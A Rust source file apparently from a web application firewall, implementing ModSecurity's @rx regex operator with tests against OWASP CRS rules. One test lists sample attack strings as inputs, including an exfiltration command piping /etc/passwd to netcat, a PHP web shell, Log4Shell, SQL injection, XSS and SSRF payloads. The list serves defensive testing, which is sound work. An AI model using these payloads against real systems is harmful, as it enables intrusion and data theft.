//! `@rx`: a regular expression on raw bytes with ModSecurity's PCRE flags (`.` matches
//! newline, `^`/`$` also match at line ends), bytes not UTF-8 (`\w`, `\d`, `.` are ASCII/byte classes), linear-time matching.

use super::{Captures, Operator, prefilter};
use regex::bytes::{Regex, RegexBuilder};

/// The regex crate's compiled-program budget; the largest CRS expressions need more than the default.
const SIZE_LIMIT: usize = 64 << 20;

#[derive(Debug)]
pub struct Rx {
    /// `None` only for a parameter with macros that is not a valid regex before expansion.
    regex: Option<Regex>,
    literals: Option<Vec<Vec<u8>>>,
    required: Option<prefilter::ByteSet>,
}

impl Rx {
    pub fn compile(pattern: &str) -> Result<Self, String> {
        if pattern.contains("%{") {
            // Macros are expanded per evaluation; the raw text need not be a valid regex.
            return Ok(Self {
                regex: build(pattern).ok().map(|(regex, _)| regex),
                literals: None,
                required: None,
            });
        }
        let (regex, bytes_mode) = build(pattern)?;
        let bytes_pattern = braced_hex_as_bytes(pattern);
        Ok(Self {
            regex: Some(regex),
            literals: prefilter::regex_literals(&bytes_pattern),
            // The byte analysis reads the pattern as the bytes-mode regex does.
            required: bytes_mode
                .then(|| prefilter::required_bytes(&bytes_pattern))
                .flatten(),
        })
    }
}

/// Bytes semantics first (as PCRE without UTF mode); a pattern that needs Unicode classes
/// (e.g. a non-ASCII character inside `[...]`) falls back to Unicode mode.
fn build(pattern: &str) -> Result<(Regex, bool), String> {
    let bytes_pattern = braced_hex_as_bytes(pattern);
    let builder = |unicode: bool| {
        let text: &str = if unicode { pattern } else { &bytes_pattern };
        RegexBuilder::new(text)
            .dot_matches_new_line(true)
            .multi_line(true)
            .unicode(unicode)
            .size_limit(SIZE_LIMIT)
            .dfa_size_limit(SIZE_LIMIT)
            .build()
    };
    builder(false)
        .map(|regex| (regex, true))
        .or_else(|_| builder(true).map(|regex| (regex, false)))
        .map_err(|e| format!("@rx {pattern:?}: {e}"))
}

/// PCRE without UTF mode reads `\x{hh}` as the byte 0xhh (CRS 941310, 942432,
/// 934120 spell UTF-8 sequences byte by byte that way); the regex crate reads
/// it as a code point, so in bytes mode it becomes the fixed form `\xhh`.
/// Code points above 0xFF and every other escape are kept as written.
fn braced_hex_as_bytes(pattern: &str) -> std::borrow::Cow<'_, str> {
    if !pattern.contains("\\x{") {
        return std::borrow::Cow::Borrowed(pattern);
    }
    let mut out = String::with_capacity(pattern.len());
    let mut rest = pattern;
    while let Some(pos) = rest.find('\\') {
        out.push_str(&rest[..pos]);
        let escape = &rest[pos..];
        if let Some(inner) = escape.strip_prefix("\\x{")
            && let Some(end) = inner.find('}')
            && let Ok(byte) = u8::from_str_radix(&inner[..end], 16)
        {
            out.push_str(&format!("\\x{byte:02X}"));
            rest = &inner[end + 1..];
            continue;
        }
        // Any other escape: the backslash and the character it escapes, verbatim.
        let len = escape[1..].chars().next().map_or(0, char::len_utf8);
        out.push_str(&escape[..1 + len]);
        rest = &escape[1 + len..];
    }
    out.push_str(rest);
    std::borrow::Cow::Owned(out)
}

impl Operator for Rx {
    fn evaluate(
        &self,
        input: &[u8],
        expanded: Option<&str>,
        captures: Option<&mut Captures>,
    ) -> bool {
        // A parameter with macros is compiled per evaluation; the CRS has none, so this stays cold.
        let dynamic;
        let regex = match expanded {
            Some(pattern) => match build(pattern) {
                Ok((regex, _)) => {
                    dynamic = regex;
                    &dynamic
                }
                Err(_) => return false,
            },
            None => match &self.regex {
                Some(regex) => regex,
                None => return false,
            },
        };
        let Some(captures) = captures else {
            return regex.is_match(input);
        };
        let Some(found) = regex.captures(input) else {
            return false;
        };
        for (slot, group) in captures.iter_mut().zip(found.iter()) {
            *slot = group.map(|m| m.as_bytes().to_vec());
        }
        true
    }

    fn required_literals(&self) -> Option<Vec<Vec<u8>>> {
        self.literals.clone()
    }

    fn required_bytes(&self) -> Option<prefilter::ByteSet> {
        self.required
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn matches_bytes_with_dotall() {
        let rx = Rx::compile("(?i)a.b").unwrap();
        assert!(rx.evaluate(b"xA\nB", None, None));
        assert!(rx.evaluate(b"a\xffb", None, None));
        assert!(!rx.evaluate(b"ab", None, None));
        // \w is ASCII only, as in PCRE without UCP
        assert!(
            !Rx::compile(r"^\w$")
                .unwrap()
                .evaluate("é".as_bytes(), None, None)
        );
    }

    #[test]
    fn anchors_match_at_line_ends_like_pcre_multiline() {
        let rx = Rx::compile("^select$").unwrap();
        assert!(rx.evaluate(b"x\nselect\ny", None, None));
        assert!(!rx.evaluate(b"xselect", None, None));
    }

    #[test]
    fn fills_captures() {
        let rx = Rx::compile(r"(\d+)-(\d+)").unwrap();
        let mut captures: Captures = Default::default();
        assert!(rx.evaluate(b"id 12-34", None, Some(&mut captures)));
        assert_eq!(captures[0].as_deref(), Some(&b"12-34"[..]));
        assert_eq!(captures[1].as_deref(), Some(&b"12"[..]));
        assert_eq!(captures[2].as_deref(), Some(&b"34"[..]));
        assert_eq!(captures[3], None);
    }

    #[test]
    fn unicode_fallback_and_errors() {
        assert!(
            Rx::compile("[é]")
                .unwrap()
                .evaluate("café".as_bytes(), None, None)
        );
        let err = Rx::compile("(unclosed").unwrap_err();
        assert!(err.contains("(unclosed"), "{err}");
    }

    #[test]
    fn braced_hex_escapes_are_bytes_as_in_pcre() {
        // CRS 941310: US-ASCII malformed `<` (0xBC) and `>` (0xBE) as single bytes.
        let rx = Rx::compile(r"\x{bc}[^>\x{be}]*[>\x{be}]").unwrap();
        assert!(rx.evaluate(b"\xbcscript\xbe", None, None));
        assert!(!rx.evaluate("\u{bc}script".as_bytes(), None, None));
        // CRS 942432: a UTF-8 quotation mark spelled byte by byte.
        let rx = Rx::compile(r"\x{e2}\x80[\x98\x99]").unwrap();
        assert!(rx.evaluate("\u{2019}".as_bytes(), None, None));
        // Escaped backslashes and code points above 0xFF are kept as written.
        assert_eq!(braced_hex_as_bytes(r"\\x{bc}"), r"\\x{bc}");
        assert_eq!(braced_hex_as_bytes(r"\x{2019}\x{0a}"), r"\x{2019}\x0A");
        assert!(matches!(
            braced_hex_as_bytes("abc"),
            std::borrow::Cow::Borrowed(_)
        ));
    }

    #[test]
    fn expanded_pattern_is_used() {
        let rx = Rx::compile("^%{tx.x}$").unwrap();
        assert!(rx.evaluate(b"abc", Some("^abc$"), None));
        assert!(!rx.evaluate(b"abc", Some("("), None));
    }
}

#[cfg(test)]
mod crs_tests {
    use super::*;

    /// Every `@rx` parameter in the CRS rule files (continuation lines joined, `\"` unescaped).
    fn crs_patterns() -> Vec<String> {
        let rules = crate::waf::operator::tests_support::crs_rules_dir();
        let quoted = Regex::new(r#""!?@rx ((?:[^"\\]|\\.)*)""#).unwrap();
        let mut patterns = Vec::new();
        for entry in std::fs::read_dir(rules).unwrap() {
            let path = entry.unwrap().path();
            if path.extension().is_some_and(|e| e == "conf") {
                let text = std::fs::read_to_string(&path).unwrap().replace("\\\n", "");
                for found in quoted.captures_iter(text.as_bytes()) {
                    let raw = String::from_utf8(found[1].to_vec()).unwrap();
                    patterns.push(raw.replace("\\\"", "\""));
                }
            }
        }
        patterns
    }

    #[test]
    fn every_crs_regex_compiles() {
        let patterns = crs_patterns();
        assert!(patterns.len() > 300, "found {} @rx", patterns.len());
        let mut with_literals = 0;
        for pattern in &patterns {
            let rx = Rx::compile(pattern).unwrap_or_else(|e| panic!("{e}"));
            with_literals += usize::from(rx.required_literals().is_some());
        }
        assert!(with_literals > 0);
        // Soundness of the byte prefilter: whatever a CRS regex matches holds a required byte.
        let samples: &[&[u8]] = &[
            b"<script>alert(1)</script>",
            b"1' or '1'='1' union select password from users--",
            b"; cat /etc/passwd | nc 10.0.0.1 4444",
            b"../../../../etc/shadow%00",
            b"${jndi:ldap://x/a}",
            b"<?php system($_GET['c']); ?>",
            b"javascript:alert(document.cookie)",
            b"\xbcscript\xbealert(\xa2XSS\xa2)\xbc/script\xbe",
            "\u{2019} or \u{2019}1\u{2019}=\u{2019}1".as_bytes(),
            b"http://169.254.169.254/latest/meta-data/",
            b"sleep(10)#",
            b"/bin/bash -c 'id'",
            b"ping -n 10 127.0.0.1 && whoami",
            b"{{7*7}}",
            b"select * from information_schema.tables",
            b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
            b"hello",
        ];
        let mut with_bytes = 0;
        for pattern in &patterns {
            let rx = Rx::compile(pattern).unwrap_or_else(|e| panic!("{e}"));
            let Some(set) = rx.required_bytes() else {
                continue;
            };
            with_bytes += 1;
            for sample in samples {
                for input in [sample.to_vec(), sample.to_ascii_lowercase()] {
                    if rx.evaluate(&input, None, None) {
                        assert!(
                            set.found_in(&input),
                            "{pattern} matched {input:?} without a required byte"
                        );
                    }
                }
            }
        }
        assert!(with_bytes > 0);
        eprintln!("{with_bytes} CRS @rx with a required byte set");
        eprintln!(
            "{} CRS @rx, {with_literals} with prefilter literals",
            patterns.len()
        );
    }
}
